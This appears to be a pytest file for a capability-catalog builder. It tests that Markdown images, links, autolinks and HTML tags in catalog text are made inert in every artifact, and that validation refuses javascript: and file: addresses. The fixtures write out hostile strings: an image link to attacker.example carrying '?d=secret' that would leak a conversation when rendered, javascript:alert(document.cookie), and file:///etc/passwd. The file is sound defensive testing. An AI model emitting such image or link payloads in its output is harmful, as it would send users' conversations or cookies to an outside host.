"""Markdown images and links in catalog text never become live in any artifact (issue #31, item 5).

A client that renders Markdown fetches an image when it shows it, so `![x](https://attacker.example/…)` in
a description used to leak a conversation from 14 artifacts. Every artifact of a build (walked through its
manifest: Markdown documents, packed tool answers, the site, llms.txt and llms-full.txt, the JSON API) is
read as a Markdown renderer would read it, and also for HTML links; only links capidx makes may remain.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from catalog_factory import documents, run_cli, write_catalog

ATTACKER = "attacker.example"
IMAGE = f"![x](https://{ATTACKER}/p.png?d=secret)"
LINK = "[click](javascript:alert(1))"
REFERENCE = f"[docs][1]\n\n[1]: https://{ATTACKER}/ref"
AUTOLINK = f"<https://{ATTACKER}/auto> and <mail@{ATTACKER}>"
HTML_IMAGE = f'<img src="https://{ATTACKER}/p.png?d=secret">'
HTML_LINK = f"<a href='https://{ATTACKER}/a'>click</a>"
HOSTILE = f"{IMAGE} {LINK} {AUTOLINK} ![y][1] {HTML_IMAGE} {HTML_LINK} {REFERENCE}"
ONE_LINE = f"{IMAGE} {LINK} <https://{ATTACKER}/auto> [z][1] {HTML_IMAGE}"

# What a Markdown renderer makes live: an inline or reference link or image, a reference definition, an
# autolink (not escaped by a backslash); and what a browser or a Markdown renderer (raw HTML) follows: href
# and src in a tag.
_LIVE = [
    re.compile(r"\]\((?P<target>[^)\s]*)"),
    re.compile(r"\]\[(?P<target>[^\]]*)\]"),
    re.compile(r"(?m)^ {0,3}\[[^\]\n]+\]:[ \t]*(?P<target>\S+)"),
    re.compile(r"(?<!\\)<(?P<target>[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*|[^\s<>@]+@[^\s<>@]+)>"),
    re.compile(
        r"""(?<!\\)<[A-Za-z][A-Za-z0-9-]*(?:\s+[^\s=>]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?)*?"""
        r"""\s+(?:href|src)\s*=\s*["']?(?P<target>[^"'\s>]*)""",
        re.IGNORECASE,
    ),
]


def _hostile_catalog() -> dict[str, dict[str, Any]]:
    """The factory's catalog with link and image syntax in every kind of prose (and in an excerpt of a source
    whose address validate accepts: `javascript:` and other schemes are refused, see below)."""
    docs = documents()
    claude = docs["claude-code"]
    mcp = claude["capabilities"][0]
    mcp["description"] = f"Connects tool servers. {HOSTILE}"
    mcp["limitations"].append(ONE_LINE)
    mcp["requirements"].append(ONE_LINE)
    mcp["implementationNotes"]["gotchas"].append(ONE_LINE)
    mcp["sources"][0]["description"] = ONE_LINE
    mcp["sources"].append(
        {"url": "https://example.com/a", "description": "A page", "sourceGranularity": "section", "excerpt": HOSTILE}
    )
    mcp["x-reviewNote"] = ONE_LINE
    claude["capabilities"][2]["sources"][0]["excerpt"] = HOSTILE
    claude["integrations"][0]["features"].append(ONE_LINE)
    return docs


def test_an_address_that_is_not_http_stops_the_build(tmp_path: Path) -> None:
    """A `javascript:` or `file:` address would reach models verbatim in tool answers and llms-full.txt, and
    be a link on the site: validate refuses it, at its JSON path, so no build carries it."""
    docs = documents()
    claude = docs["claude-code"]
    claude["capabilities"][0]["sources"][0]["url"] = "javascript:alert(document.cookie)"
    claude["capabilities"][0]["implementationNotes"]["startUrl"] = "file:///etc/passwd"
    claude["documentation"] = {"officialDocs": "JavaScript:alert(2)", "x-note": "javascript: is only text here"}
    write_catalog(tmp_path, docs)
    result = run_cli(["build", "--out", str(tmp_path / "build"), "-q"], cwd=tmp_path)
    assert result.exit_code == 1
    assert not (tmp_path / "build").exists()
    report = run_cli(["validate", "--format", "json"], cwd=tmp_path)
    refused = {
        (d["pointer"], d["severity"]) for d in json.loads(report.output)["diagnostics"] if d["code"] == "url-scheme"
    }
    assert refused == {
        ("$.capabilities[0].sources[0].url", "error"),
        ("$.capabilities[0].implementationNotes.startUrl", "error"),
        ("$.documentation.officialDocs", "error"),
    }


@pytest.fixture(scope="module")
def build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("links")
    write_catalog(root, _hostile_catalog())
    (root / "capidx.yaml").write_text("site: true\n", encoding="utf-8")
    result = run_cli(["build", "-q"], cwd=root)
    assert result.exit_code == 0, result.output
    return root / "build"


def _texts(build: Path) -> dict[str, str]:
    """Every file the manifest lists (a pack once), and the manifest itself."""
    manifest = json.loads((build / "manifest.json").read_text("utf-8"))
    paths = sorted({row["path"] for row in manifest["artifacts"]} | {"manifest.json"})
    return {path: (build / path).read_text("utf-8") for path in paths}


def _live_targets(text: str) -> list[str]:
    return [found.group("target") for pattern in _LIVE for found in pattern.finditer(text)]


def test_no_artifact_carries_a_live_image_or_link_from_catalog_text(build: Path) -> None:
    texts = _texts(build)
    carrying = [path for path, text in texts.items() if ATTACKER in text]
    assert len(carrying) >= 14, carrying  # the text is still there, as text
    for path, text in texts.items():
        targets = _live_targets(text)
        assert not [target for target in targets if ATTACKER in target or "javascript:" in target.lower()], path


def test_capidx_s_own_links_remain(build: Path) -> None:
    """The site links its sources when they are http(s); llms.txt links the Markdown documents."""
    texts = _texts(build)
    assert "https://docs.anthropic.com/en/docs/claude-code/mcp" in _live_targets(texts["site/index.html"])
    assert any(target.endswith(".md") for target in _live_targets(texts["site/llms.txt"]))


def test_the_text_still_reads(build: Path) -> None:
    """Made inert by a space (which a JSON encoding keeps as it is), not removed."""
    full = (build / "full.md").read_text("utf-8")
    assert f"![x] (https://{ATTACKER}/p.png?d=secret) [click] (javascript:alert(1))" in full
    lookup = next((build / "tools").glob("lookup*.pack")).read_text("utf-8")
    assert f"![x] (https://{ATTACKER}/p.png?d=secret)" in lookup
    assert "< img src=" in lookup and "< a href=" in lookup and "</a>" in lookup  # a bare tag stays


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (IMAGE, "![x](https://attacker.examp"),
        (LINK, "[click](javascript:alert(1))"),
        ("Read [the guide][g] first.", "[the guide][g] first."),
        ("See <https://example.com/x>.", "<https://example.com/x>."),
        (HTML_IMAGE, '<img src="https://attacker'),
        (HTML_LINK, "<a href='https://attacker"),
        ("Hidden <!-- a comment --> text.", "<!-- a comment --> text."),
    ],
)
def test_validate_warns_about_link_syntax_and_strict_fails(tmp_path: Path, text: str, found: str) -> None:
    docs = documents()
    docs["claude-code"]["capabilities"][3]["description"] = f"Runs shell commands at lifecycle events. {text}"
    write_catalog(tmp_path, docs)
    result = run_cli(["validate", "--format", "json"], cwd=tmp_path)
    assert result.exit_code == 0, result.output
    [warning] = [d for d in json.loads(result.output)["diagnostics"] if d["code"] == "links"]
    assert warning["severity"] == "warning" and warning["pointer"] == "$.capabilities[3].description"
    assert found[:20] in warning["message"]
    assert run_cli(["validate", "--strict"], cwd=tmp_path).exit_code == 1


def test_brackets_that_make_no_link_do_not_warn(tmp_path: Path) -> None:
    docs = documents()
    docs["claude-code"]["capabilities"][3]["description"] = (
        "Runs shell commands [optionally] at lifecycle events; see note [1], a <placeholder>, <owner/repo>, "
        "<b>bold</b>, if a<b, and x[0] (index)."
    )
    docs["claude-code"]["capabilities"][3]["sources"] = [
        {"url": "http://[2001:db8::1]:8080/hooks", "description": "Hooks", "sourceGranularity": "section"}
    ]
    write_catalog(tmp_path, docs)
    result = run_cli(["validate", "--format", "json"], cwd=tmp_path)
    assert not [d for d in json.loads(result.output)["diagnostics"] if d["code"] == "links"]


def test_an_alias_phrase_with_link_syntax_warns(tmp_path: Path) -> None:
    write_catalog(tmp_path)
    aliases = tmp_path / "agents" / "aliases.json"
    table = json.loads(aliases.read_text("utf-8"))
    table["aliases"][IMAGE] = "MCP Servers"
    aliases.write_text(json.dumps(table), "utf-8")
    result = run_cli(["validate", "--format", "json"], cwd=tmp_path)
    [warning] = [d for d in json.loads(result.output)["diagnostics"] if d["code"] == "links"]
    assert warning["path"].endswith("aliases.json")
